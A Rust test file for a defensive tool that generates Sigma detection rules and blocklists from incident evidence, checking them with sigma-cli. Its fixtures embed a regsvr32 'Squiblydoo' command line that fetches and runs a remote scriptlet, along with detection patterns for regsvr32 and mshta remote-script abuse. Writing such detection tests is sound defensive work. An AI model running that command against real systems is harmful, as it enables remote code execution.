//! Sigma rules generated on close must pass `sigma check`.
//!
//! Each test proposes rules for one evidence set, writes them to a temporary
//! folder as `<id>.yml`, and runs `scripts/sigma_check.py` on the folder.
//! That script is sigma-cli's own `check` command with every validator and
//! `--fail-on-issues`. It reads ATT&CK data built from the shipped catalog,
//! so nothing is downloaded. The interpreter comes from
//! `HUNTBRIDGE_TEST_PYTHON`, or `.venv/bin/python` in the repository, which
//! `scripts/pyenv.sh` creates. Without it the tests fail.

use std::path::{Path, PathBuf};
use std::process::Command;

use chrono::NaiveDate;
use huntbridge::domain::attack::{Catalog, Resolved};
use huntbridge::domain::ioc::{Extractor, Ioc};
use huntbridge::domain::rules::{
    BlocklistKind, ExclusionReason, Proposal, Resolution, RuleInput, SigmaKind, SigmaRule, propose,
};
use huntbridge::domain::types::Severity;
use serde_yaml_ng::Value;

const REPO: &str = env!("CARGO_MANIFEST_DIR");

/// Owned parts of a [`RuleInput`].
struct Case {
    incident_id: &'static str,
    techniques: Vec<Resolved>,
    iocs: Vec<Ioc>,
    hosts: Vec<String>,
    users: Vec<String>,
    evidence: Vec<String>,
}

impl Case {
    fn new(incident_id: &'static str, techniques: &[&str], iocs: &[&str]) -> Self {
        let extractor = Extractor::default();
        Case {
            incident_id,
            techniques: techniques
                .iter()
                .map(|id| Catalog::embedded().resolve(id).unwrap())
                .collect(),
            iocs: iocs
                .iter()
                .map(|value| extractor.classify_one(value).unwrap())
                .collect(),
            hosts: vec!["WS-FIN-07.corp.example".to_string()],
            users: vec!["CORP\\jdoe".to_string()],
            evidence: Vec::new(),
        }
    }

    fn with_evidence_file(mut self, path: &str) -> Self {
        let text = std::fs::read_to_string(Path::new(REPO).join(path))
            .unwrap_or_else(|error| panic!("cannot read {path}: {error}"));
        self.evidence.push(text);
        self
    }

    fn propose(&self) -> Vec<Proposal> {
        let evidence: Vec<&str> = self.evidence.iter().map(String::as_str).collect();
        propose(&RuleInput {
            incident_id: self.incident_id,
            title: "test incident",
            hypothesis: None,
            severity: Severity::High,
            resolution: Resolution::TruePositive,
            techniques: &self.techniques,
            iocs: &self.iocs,
            hosts: &self.hosts,
            users: &self.users,
            evidence: &evidence,
            author: "huntbridge tests",
            date: NaiveDate::from_ymd_opt(2026, 5, 4).unwrap(),
            catalog: Catalog::embedded(),
        })
    }
}

/// Builds the shipped regsvr32 "Squiblydoo" case, with the finding's IOCs.
fn shipped_case() -> Case {
    let mut case = Case::new(
        "INC-2026-0001",
        &["T1218.010", "T1059.001"],
        &[
            "hxxp://10.10.10[.]5:8444/launcher[.]sct",
            "10.10.10.5",
            "908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53",
        ],
    );
    case.hosts = vec!["WORKSTATION5.mordor.local".to_string()];
    case.users = vec!["MORDOR\\pgustavo".to_string()];
    case.evidence.push(
        "2020-07-22T03:27:53Z WORKSTATION5 Sysmon 1 \"C:\\windows\\system32\\regsvr32.exe\" /s /n \
         /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll (padre: powershell.exe)"
            .to_string(),
    );
    case.with_evidence_file("cases/regsvr32-squiblydoo/events.jsonl")
}

fn sigma_rules(proposals: &[Proposal]) -> Vec<&SigmaRule> {
    proposals
        .iter()
        .filter_map(|proposal| match proposal {
            Proposal::Sigma(rule) => Some(rule),
            _ => None,
        })
        .collect()
}

/// Returns the interpreter that runs the checker, or fails the test.
fn python() -> PathBuf {
    let path = std::env::var_os("HUNTBRIDGE_TEST_PYTHON")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(REPO).join(".venv/bin/python"));
    assert!(
        path.exists(),
        "Python interpreter {} not found: run scripts/pyenv.sh to create .venv with sigma-cli, \
         or set HUNTBRIDGE_TEST_PYTHON to an interpreter that has it",
        path.display()
    );
    path
}

/// Runs the offline `sigma check` on a folder and returns (passed, output).
fn sigma_check(folder: &Path) -> (bool, String) {
    let output = Command::new(python())
        .arg(Path::new(REPO).join("scripts/sigma_check.py"))
        .arg(folder)
        .output()
        .expect("failed to start scripts/sigma_check.py");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

/// Writes the rules to a new temporary folder as `<id>.yml`.
fn write_rules(rules: &[&SigmaRule]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    for rule in rules {
        std::fs::write(folder.path().join(format!("{}.yml", rule.id)), &rule.yaml).unwrap();
    }
    folder
}

/// Asserts that `sigma check` passes on the rules, showing the rules and the
/// checker's output when it does not.
fn assert_sigma_check_passes(rules: &[&SigmaRule]) {
    assert!(!rules.is_empty(), "no rules to check");
    let folder = write_rules(rules);
    let (passed, output) = sigma_check(folder.path());
    let yaml: Vec<&str> = rules.iter().map(|rule| rule.yaml.as_str()).collect();
    assert!(
        passed,
        "sigma check failed:\n{output}\nrules:\n{}",
        yaml.join("\n---\n")
    );
    assert!(output.contains(" and 0 issues."), "{output}");
}

/// Asserts that the rule's YAML parses and has every field the Sigma
/// specification and the proposal contract require.
fn assert_required_fields(rule: &SigmaRule, incident_id: &str) {
    let document: Value = serde_yaml_ng::from_str(&rule.yaml)
        .unwrap_or_else(|error| panic!("invalid YAML ({error}):\n{}", rule.yaml));
    let text = |key: &str| {
        document[key]
            .as_str()
            .unwrap_or_else(|| panic!("`{key}` is not a string in:\n{}", rule.yaml))
            .to_string()
    };
    let list = |key: &str| {
        document[key]
            .as_sequence()
            .unwrap_or_else(|| panic!("`{key}` is not a list in:\n{}", rule.yaml))
            .iter()
            .map(|item| item.as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };

    assert_eq!(text("title"), rule.title);
    assert!(text("title").contains(incident_id), "{}", rule.yaml);
    assert_eq!(text("id"), rule.id.to_string());
    assert_eq!(text("status"), "experimental");
    assert!(!text("description").is_empty());
    assert!(!text("author").is_empty());
    let date = text("date");
    assert!(
        NaiveDate::parse_from_str(&date, "%Y-%m-%d").is_ok(),
        "date {date:?} is not YYYY-MM-DD"
    );

    let references = list("references");
    assert_eq!(references[0], format!("huntbridge:{incident_id}"));
    for technique in &rule.techniques {
        let url = format!(
            "https://attack.mitre.org/techniques/{}/",
            technique.replace('.', "/")
        );
        assert!(references.contains(&url), "no {url} in {references:?}");
    }

    let tags = list("tags");
    for technique in &rule.techniques {
        let tag = format!("attack.{}", technique.to_ascii_lowercase());
        assert!(tags.contains(&tag), "no {tag} in {tags:?}");
    }
    assert!(
        tags.iter().any(|tag| !tag.starts_with("attack.t")),
        "no tactic tag in {tags:?}"
    );
    assert!(!tags.contains(&"attack.defense-evasion".to_string()));

    assert!(document["logsource"]["category"].as_str().is_some());
    let detection = document["detection"]
        .as_mapping()
        .expect("detection is a map");
    assert!(detection.get("condition").and_then(Value::as_str).is_some());
    assert!(detection.len() >= 2, "detection has no selection");
    assert!(!list("falsepositives").is_empty());
    assert_eq!(text("level"), rule.level.as_str());
}

/// The shipped case yields a regsvr32 remote scriptlet rule, and every rule
/// passes `sigma check`.
#[test]
fn shipped_case_rules_pass_sigma_check() {
    let case = shipped_case();
    let proposals = case.propose();
    let rules = sigma_rules(&proposals);

    let scriptlet = rules
        .iter()
        .find(|rule| {
            rule.kind == SigmaKind::ProcessCreation
                && rule.yaml.contains("'\\regsvr32.exe'")
                && rule.yaml.contains("'/i:http'")
                && rule.yaml.contains("'scrobj.dll'")
        })
        .expect("a process-creation rule for regsvr32 /i:http with scrobj.dll");
    assert!(scriptlet.yaml.contains("attack.t1218.010"));
    for rule in &rules {
        assert_required_fields(rule, case.incident_id);
    }
    assert_sigma_check_passes(&rules);
}

/// The private address of the shipped case is excluded, not blocked.
#[test]
fn shipped_case_excludes_private_address() {
    let proposals = shipped_case().propose();
    let firewall = proposals
        .iter()
        .find_map(|proposal| match proposal {
            Proposal::Blocklist(blocklist) if blocklist.kind == BlocklistKind::Firewall => {
                Some(blocklist)
            }
            _ => None,
        })
        .expect("a firewall blocklist");
    assert!(
        firewall
            .entries
            .iter()
            .all(|entry| entry.value != "10.10.10.5")
    );
    let excluded = firewall
        .excluded
        .iter()
        .find(|excluded| excluded.value == "10.10.10.5")
        .expect("10.10.10.5 listed as excluded");
    assert_eq!(excluded.reason, ExclusionReason::PrivateAddress);
}

/// Network and DNS events alone give network and DNS rules that pass.
#[test]
fn network_only_rules_pass_sigma_check() {
    let case = Case::new(
        "INC-2026-0002",
        &["T1218.011", "T1071.001"],
        &["45.9.148.17", "huntbridge-fixture.net", "192.168.40.99"],
    )
    .with_evidence_file("tests/data/sigma/network-only.jsonl");
    let proposals = case.propose();
    let rules = sigma_rules(&proposals);

    let kinds: Vec<SigmaKind> = rules.iter().map(|rule| rule.kind).collect();
    for kind in [
        SigmaKind::NetworkConnection,
        SigmaKind::DnsQuery,
        SigmaKind::Firewall,
        SigmaKind::Dns,
    ] {
        assert!(kinds.contains(&kind), "no {kind:?} rule in {kinds:?}");
    }
    assert!(!kinds.contains(&SigmaKind::ProcessCreation), "{kinds:?}");
    let all_yaml: String = rules.iter().map(|rule| rule.yaml.as_str()).collect();
    assert!(
        !all_yaml.contains("142.250.184.206"),
        "unrelated traffic in a rule"
    );
    assert!(!all_yaml.contains("127.0.0.1"), "loopback in a rule");
    assert!(
        !all_yaml.contains("www.microsoft.com"),
        "known-good domain in a rule"
    );
    assert!(
        !all_yaml.contains("192.168.40.99"),
        "flagged indicator in a rule"
    );
    assert!(
        all_yaml.contains("'api.huntbridge-fixture.net'"),
        "{all_yaml}"
    );

    for rule in &rules {
        assert_required_fields(rule, case.incident_id);
    }
    assert_sigma_check_passes(&rules);
}

/// Indicators with no evidence give one rule per indicator kind that pass.
#[test]
fn indicator_only_rules_pass_sigma_check() {
    let case = Case::new(
        "INC-2026-0003",
        &["T1105"],
        &[
            "47466598b010137ebb987e02e1117cd0eb53813e6806c51ed0e61322533e743b",
            "5d41402abc4b2a76b9719d911017c592",
            "45.9.148.17",
            "45.9.148.0/24",
            "2a0e:97c0:3e3:1ba::17",
            "hxxps://cdn.huntbridge-fixture[.]net/invoice/view.hta?id=7",
            "huntbridge-fixture.net",
            "203.0.113.9",
        ],
    );
    let proposals = case.propose();
    let rules = sigma_rules(&proposals);

    let kinds: Vec<SigmaKind> = rules.iter().map(|rule| rule.kind).collect();
    assert_eq!(
        kinds,
        [
            SigmaKind::FileHash,
            SigmaKind::Firewall,
            SigmaKind::Dns,
            SigmaKind::Proxy
        ]
    );
    let all_yaml: String = rules.iter().map(|rule| rule.yaml.as_str()).collect();
    assert!(all_yaml.contains("dst_ip|cidr:"), "{all_yaml}");
    assert!(all_yaml.contains("'2a0e:97c0:3e3:1ba::17'"), "{all_yaml}");
    assert!(
        !all_yaml.contains("203.0.113.9"),
        "documentation address in a rule"
    );

    for rule in &rules {
        assert_required_fields(rule, case.incident_id);
    }
    assert_sigma_check_passes(&rules);
}

/// Process creations in the Event Viewer text form give rules that pass.
#[test]
fn message_form_rules_pass_sigma_check() {
    let case = Case::new(
        "INC-2026-0004",
        &["T1218.005", "T1059.003"],
        &["47466598b010137ebb987e02e1117cd0eb53813e6806c51ed0e61322533e743a"],
    )
    .with_evidence_file("tests/data/sigma/message-form.txt");
    let proposals = case.propose();
    let rules = sigma_rules(&proposals);

    let titles: Vec<&str> = rules.iter().map(|rule| rule.title.as_str()).collect();
    assert!(
        titles
            .iter()
            .any(|title| title.starts_with("mshta.exe With Remote URL")),
        "{titles:?}"
    );
    assert!(
        titles
            .iter()
            .any(|title| title.starts_with("cmd.exe Started by mshta.exe")),
        "{titles:?}"
    );
    // The only hash is cmd.exe's, which the evidence shows is a system file.
    assert!(!rules.iter().any(|rule| rule.kind == SigmaKind::FileHash));

    for rule in &rules {
        assert_required_fields(rule, case.incident_id);
    }
    assert_sigma_check_passes(&rules);
}

/// The checker rejects a rule tagged with the retired Defense Evasion
/// tactic, so a passing run means the ATT&CK validator ran.
#[test]
fn sigma_check_rejects_retired_tactic() {
    let case = shipped_case();
    let proposals = case.propose();
    let rules = sigma_rules(&proposals);
    let mut rule = rules[0].clone();
    rule.yaml = rule
        .yaml
        .replace("- attack.stealth\n", "- attack.defense-evasion\n");
    assert!(
        rule.yaml.contains("attack.defense-evasion"),
        "{}",
        rule.yaml
    );

    let folder = write_rules(&[&rule]);
    let (passed, output) = sigma_check(folder.path());
    assert!(
        !passed,
        "sigma check accepted attack.defense-evasion:\n{output}"
    );
    assert!(output.contains("InvalidATTACKTagIssue"), "{output}");
}
